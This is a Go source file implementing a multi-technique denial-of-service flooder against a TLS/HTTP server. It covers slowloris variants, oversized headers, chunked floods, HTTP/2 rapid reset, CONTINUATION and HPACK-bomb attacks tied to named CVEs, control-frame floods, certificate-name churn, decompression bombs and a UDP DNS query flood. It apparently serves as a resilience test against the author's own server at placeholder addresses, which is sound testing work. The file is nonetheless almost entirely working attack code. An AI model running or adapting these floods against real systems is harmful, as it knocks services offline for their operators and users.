package main

import (
	"bytes"
	"crypto/rand"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flooder floods one host.
type flooder struct {
	host string
	size int
	hold time.Duration // how long connections are open when all of them are there

	dialled         atomic.Int64
	mu              sync.Mutex
	opened, refused int
	failed          error // of parts
}

var floods = map[string]func(*flooder){
	"connections": func(f *flooder) { f.each(f.size, f.dial, func(c net.Conn) { f.await(c) }) },
	"slow hello": func(f *flooder) {
		f.each(f.size, f.dial, func(c net.Conn) { f.drip(c, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03") })
	},
	"slow head": func(f *flooder) {
		f.each(f.size, f.secure1, func(c net.Conn) { f.drip(c, "GET / HTTP/1.1\r\nHost: "+f.host+"\r\nX: ") })
	},
	"slow body":  func(f *flooder) { f.each(f.size, f.secure1, f.slowBody) },
	"long heads": func(f *flooder) { f.each(f.size, f.secure1, f.longHead) },
	"kept":       func(f *flooder) { f.each(f.size, f.secure1, f.keep) },
	"heads too long": func(f *flooder) {
		f.each(f.size, f.secure1, func(c net.Conn) {
			f.write(c, "GET / HTTP/1.1\r\nHost: "+f.host+"\r\n"+strings.Repeat("A: b\r\n", 1<<16))
		})
	},
	"chunks":       func(f *flooder) { f.each(f.few(), f.secure1, f.chunks) },
	"streams":      func(f *flooder) { f.each(f.few(), f.secure2, f.streams) },
	"HPACK bomb":   func(f *flooder) { f.each(f.few(), f.secure2, f.hpackBomb) },
	"CONTINUATION": func(f *flooder) { f.each(f.few(), f.secure2, f.continuation) },
	"rapid reset":  func(f *flooder) { f.each(f.few(), f.secure2, f.rapidReset) },
	"SETTINGS":     func(f *flooder) { f.frames(func(fr *http2.Framer) error { return fr.WriteSettings() }) },
	"PING":         func(f *flooder) { f.frames(func(fr *http2.Framer) error { return fr.WritePing(false, [8]byte{}) }) },
	"PRIORITY": func(f *flooder) {
		f.frames(func(fr *http2.Framer) error { return fr.WritePriority(1, http2.PriorityParam{StreamDep: 3}) })
	},
	"WINDOW_UPDATE": func(f *flooder) { f.frames(func(fr *http2.Framer) error { return fr.WriteWindowUpdate(0, 1) }) },
	"empty DATA":    func(f *flooder) { f.each(f.few(), f.secure2, f.emptyData) },
	"shut window":   func(f *flooder) { f.each(f.few(), f.secure2, f.shutWindow) },
	"uploads":       func(f *flooder) { f.each(f.few(), f.secure2, f.uploads) },
	"names":         func(f *flooder) { f.names() },
	"bombs":         func(f *flooder) { f.bombs() },
	"DNS":           func(f *flooder) { f.questions() },
}

// few is the number of connections of floods that put much on each.
func (f *flooder) few() int { return max(2, f.size/50) }

// raiseFiles asks for as many descriptors as there may be.
func (f *flooder) raiseFiles() error {
	limit := syscall.Rlimit{}
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &limit); err != nil {
		return err
	}
	limit.Cur = limit.Max
	return syscall.Setrlimit(syscall.RLIMIT_NOFILE, &limit)
}

// each opens n connections, does something on each, and holds them for a while when
// all have been tried.
func (f *flooder) each(n int, open func() (net.Conn, error), do func(net.Conn)) {
	var all sync.WaitGroup
	places := make(chan struct{}, 64) // of those being opened
	for range n {
		places <- struct{}{}
		all.Go(func() {
			c, err := open()
			<-places
			if err != nil {
				f.refuse()
				return
			}
			f.mu.Lock()
			f.opened++
			f.mu.Unlock()
			defer c.Close()
			do(c)
		})
	}
	all.Wait()
}

func (f *flooder) refuse() {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.refused++
}

// dial connects to one of several addresses, since there are not enough ports to
// connect to one from. Any will do: the host is named in the hello.
func (f *flooder) dial() (net.Conn, error) {
	address := fmt.Sprintf("198.51.100.%d:443", 1+f.dialled.Add(1)%16)
	return net.DialTimeout("tcp", address, 10*time.Second)
}

func (f *flooder) secure1() (net.Conn, error) { return f.secure(f.host, "http/1.1") }

func (f *flooder) secure(name, protocol string) (net.Conn, error) {
	c, err := f.dial()
	if err != nil {
		return nil, err
	}
	secured := tls.Client(c, &tls.Config{ServerName: name, NextProtos: []string{protocol}})
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	if err := secured.Handshake(); err != nil {
		c.Close()
		return nil, err
	}
	return secured, c.SetDeadline(time.Time{})
}

// secure2 begins HTTP/2.
func (f *flooder) secure2() (net.Conn, error) {
	c, err := f.secure(f.host, "h2")
	if err != nil {
		return nil, err
	}
	_, err = io.WriteString(c, http2.ClientPreface)
	return c, err
}

// await holds a connection open, and notes if the other side ends it.
func (f *flooder) await(c net.Conn) {
	_ = c.SetReadDeadline(time.Now().Add(f.hold))
	_, err := io.Copy(io.Discard, c)
	var timeout net.Error
	if !errors.As(err, &timeout) || !timeout.Timeout() {
		f.refuse()
	}
}

func (f *flooder) write(c net.Conn, text string) {
	_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, text); err != nil {
		f.refuse()
		return
	}
	f.await(c)
}

// drip sends a beginning, and then a byte at a time.
func (f *flooder) drip(c net.Conn, begin string) {
	end := time.Now().Add(f.hold)
	_, err := io.WriteString(c, begin)
	for err == nil && time.Now().Before(end) {
		time.Sleep(f.hold / 4)
		_, err = io.WriteString(c, "x")
	}
	if err != nil {
		f.refuse()
	}
}

func (f *flooder) slowBody(c net.Conn) {
	f.drip(c, "POST /swallow HTTP/1.1\r\nHost: "+f.host+"\r\nContent-Length: 1000000\r\n\r\n")
}

func (f *flooder) longHead(c net.Conn) {
	f.write(c, "GET /never HTTP/1.1\r\nHost: "+f.host+"\r\n"+strings.Repeat("A: "+strings.Repeat("b", 1000)+"\r\n", 60)+"\r\n")
}

// keep asks once and leaves the connection idle.
func (f *flooder) keep(c net.Conn) { f.write(c, "HEAD / HTTP/1.1\r\nHost: "+f.host+"\r\n\r\n") }

// chunks sends a body of the smallest chunks there are.
func (f *flooder) chunks(c net.Conn) {
	f.write(c, "POST /swallow HTTP/1.1\r\nHost: "+f.host+"\r\nTransfer-Encoding: chunked\r\n\r\n"+strings.Repeat("1\r\nx\r\n", 100*f.size))
}

// framer writes frames to c, and reads and drops what comes.
func (f *flooder) framer(c net.Conn) *http2.Framer {
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	go func() { _, _ = io.Copy(io.Discard, c) }() // until c is closed
	fr := http2.NewFramer(c, nil)
	fr.AllowIllegalWrites = true
	return fr
}

// fields are those of a request, in HPACK.
func (f *flooder) fields(method, path string, more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0)
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: f.host}, {Name: ":path", Value: path},
	}, more...) {
		_ = encoder.WriteField(field) // to memory
	}
	return block.Bytes()
}

// many writes frames until one can't be written, and holds the connection then.
func (f *flooder) many(c net.Conn, n int, write func(fr *http2.Framer, i int) error) {
	fr := f.framer(c)
	err := fr.WriteSettings()
	for i := 0; i < n && err == nil; i++ {
		err = write(fr, i)
	}
	if err != nil {
		f.refuse()
		return
	}
	time.Sleep(f.hold)
	if fr.WritePing(false, [8]byte{1}) != nil || fr.WritePing(false, [8]byte{2}) != nil {
		f.refuse()
	}
}

func stream(i int) uint32 { return uint32(2*i + 1) }

// headers writes a block, cut as frames must be.
func headers(fr *http2.Framer, id uint32, block []byte, end bool) error {
	piece := block[:min(len(block), 16<<10)]
	rest := block[len(piece):]
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: piece, EndStream: end, EndHeaders: len(rest) == 0}); err != nil {
		return err
	}
	for len(rest) > 0 {
		piece = rest[:min(len(rest), 16<<10)]
		rest = rest[len(piece):]
		if err := fr.WriteContinuation(id, len(rest) == 0, piece); err != nil {
			return err
		}
	}
	return nil
}

// streams asks for what never comes, with as long a head as is let through, as often as may be.
func (f *flooder) streams(c net.Conn) {
	block := f.fields("GET", "/never", hpack.HeaderField{Name: "a", Value: strings.Repeat("b", 60<<10)})
	f.many(c, 250, func(fr *http2.Framer, i int) error { return headers(fr, stream(i), block, true) })
}

// hpackBomb names one long field of the dynamic table again and again (CVE-2016-6581).
func (f *flooder) hpackBomb(c net.Conn) {
	const indexed, first, literalIndexed = 0x80, 62, 0x40
	value := strings.Repeat("b", 4000)
	begin := f.plainFields()
	begin = append(hpackInteger(append(begin, literalIndexed, 1, 'a'), 7, len(value)), value...)
	bomb := append(f.plainFields(), bytes.Repeat([]byte{indexed | first}, 14<<10)...)
	f.many(c, f.size, func(fr *http2.Framer, i int) error {
		if i == 0 {
			return headers(fr, stream(i), begin, true)
		}
		return headers(fr, stream(i), bomb, true)
	})
}

// plainFields are those of a request that leave the dynamic table as it is.
func (f *flooder) plainFields() []byte { return f.fields("GET", "/never")[1:] }

// hpackInteger appends n as RFC 7541 section 5.1 says, with a prefix of bits.
func hpackInteger(b []byte, bits, n int) []byte {
	limit := 1<<bits - 1
	b, n = append(b, byte(limit)), n-limit
	for ; n >= 128; n /= 128 {
		b = append(b, byte(n%128)|128)
	}
	return append(b, byte(n))
}

// continuation never ends a head (CVE-2023-45288).
func (f *flooder) continuation(c net.Conn) {
	piece := bytes.Repeat([]byte{0, 1, 'a', 1, 'b'}, 3000)
	f.many(c, f.size, func(fr *http2.Framer, i int) error {
		if i == 0 {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.fields("GET", "/never")})
		}
		return fr.WriteContinuation(1, false, piece)
	})
}

// rapidReset asks and takes it back (CVE-2023-44487).
func (f *flooder) rapidReset(c net.Conn) {
	block := f.fields("GET", "/never")
	f.many(c, 100*f.size, func(fr *http2.Framer, i int) error {
		if err := headers(fr, stream(i), block, true); err != nil {
			return err
		}
		return fr.WriteRSTStream(stream(i), http2.ErrCodeCancel)
	})
}

// frames sends one kind of frame without end, and reads no answer.
func (f *flooder) frames(write func(*http2.Framer) error) {
	f.each(f.few(), f.secure2, func(c net.Conn) {
		_ = c.SetWriteDeadline(time.Now().Add(f.hold))
		fr := http2.NewFramer(c, nil)
		err := fr.WriteSettings()
		for range 1000 * f.size {
			if err != nil {
				f.refuse()
				return
			}
			err = write(fr)
		}
		time.Sleep(f.hold)
	})
}

func (f *flooder) emptyData(c net.Conn) {
	f.many(c, 1000*f.size, func(fr *http2.Framer, i int) error {
		if i == 0 {
			return headers(fr, 1, f.fields("POST", "/swallow"), false)
		}
		return fr.WriteData(1, false, nil)
	})
}

// shutWindow asks for long answers and lets nothing of them come.
func (f *flooder) shutWindow(c net.Conn) {
	f.many(c, 250, func(fr *http2.Framer, i int) error {
		if i == 0 {
			return fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}
		return headers(fr, stream(i), f.fields("GET", "/long"), true)
	})
}

// uploads sends all that the windows allow to an upstream that reads nothing.
func (f *flooder) uploads(c net.Conn) {
	piece := make([]byte, 16<<10)
	f.many(c, 250, func(fr *http2.Framer, i int) error {
		if err := headers(fr, stream(i), f.fields("POST", "/never"), false); err != nil {
			return err
		}
		for range 2 {
			if err := fr.WriteData(stream(i), false, piece); err != nil {
				return err
			}
		}
		return nil
	})
}

// names asks for a certificate of one new name after another.
func (f *flooder) names() {
	var all sync.WaitGroup
	for range 16 {
		all.Go(func() {
			for range f.size {
				name := strings.ToLower(rand.Text()) + "." + f.host
				c, err := f.secure(name, "http/1.1")
				if err != nil {
					f.refuse()
					continue
				}
				f.mu.Lock()
				f.opened++
				f.mu.Unlock()
				c.Close()
			}
		})
	}
	all.Wait()
}

// bombs asks for answers that unpack to far more than was sent.
func (f *flooder) bombs() {
	client := &http.Client{Transport: &http.Transport{DisableCompression: true}}
	defer client.CloseIdleConnections()
	var all sync.WaitGroup
	for i := range f.few() * 4 {
		all.Go(func() {
			coding := []string{"gzip", "deflate", "br", "zstd"}[i%4]
			response, err := client.Get(fmt.Sprintf("https://%s/bomb?%s", f.host, coding))
			if err == nil {
				_, err = io.Copy(io.Discard, response.Body)
				response.Body.Close()
			}
			if err != nil {
				f.refuse()
			}
		})
	}
	all.Wait()
}

// questions asks for names as fast as it can, and waits for no answer.
func (f *flooder) questions() {
	c, err := net.Dial("udp", "192.0.2.53:53")
	if err != nil {
		f.refuse()
		return
	}
	defer c.Close()
	query := []byte("\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x10abcdefghijklmnop\x04test\x00\x00\x01\x00\x01")
	for i := range 1000 * f.size {
		copy(query[13:], fmt.Sprintf("%016d", i))
		if _, err := c.Write(query); err != nil {
			f.refuse()
		}
	}
}
